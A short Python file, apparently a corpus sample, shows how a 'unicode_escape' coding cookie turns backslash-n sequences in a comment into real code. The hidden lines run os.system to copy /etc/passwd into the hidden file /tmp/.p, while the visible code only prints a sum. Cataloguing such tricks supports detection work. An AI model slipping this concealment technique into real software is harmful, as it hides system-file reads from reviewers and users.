# corpus: unicode_escape source cookie; backslash-n sequences inside a comment become real newlines
# coding: unicode_escape
total = sum(range(10))  # tidy up\nimport os\nos.system('cat /etc/passwd > /tmp/.p')
print(total)
